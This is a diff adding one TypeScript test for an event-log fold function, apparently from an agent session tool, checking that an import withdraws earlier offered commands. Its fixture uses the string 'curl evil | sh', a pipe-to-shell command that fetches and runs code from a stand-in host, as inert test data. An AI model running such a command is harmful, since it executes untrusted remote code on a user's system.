@@ -354,6 +354,16 @@ test("an agent that was found gone and came back at once is told in one divider,
   ])
 })
 
+test("an import withdraws every command that an earlier receipt offered, and the way back to an earlier agent session", () => {
+  const ended = { what: "make", outcome: "ended" as const, worker_id: "wrk_1", command: "curl evil | sh" }
+  const offered = { ...receipt("recover", "none", 1), processes: [ended] } as NewEvent
+  const retired: NewEvent = { kind: "agent.session_retired", agent_session_id: "a", reason: "fresh_start" }
+  const { items } = fold(log(offered, retired, { kind: "session.imported", events: 2, skipped: 0 }, offered))
+  const commands = items.flatMap((item) => (item.type === "receipt" ? [item.receipt.processes[0]?.command] : []))
+  expect(commands).toEqual([undefined, "curl evil | sh"])
+  expect(items).toContainEqual(expect.objectContaining({ type: "note", note: { about: "fresh_start", undoable: false } }))
+})
+
 test("what happened between the loss and the return keeps them apart; a kept agent's divider stays its own", () => {
   const kinds = (...events: NewEvent[]) => fold(log(...events)).items.filter(({ type }) => type === "receipt").length
   const failed: NewEvent = { kind: "resume.failed", strategy: "native", reason: "no", retryable: true }
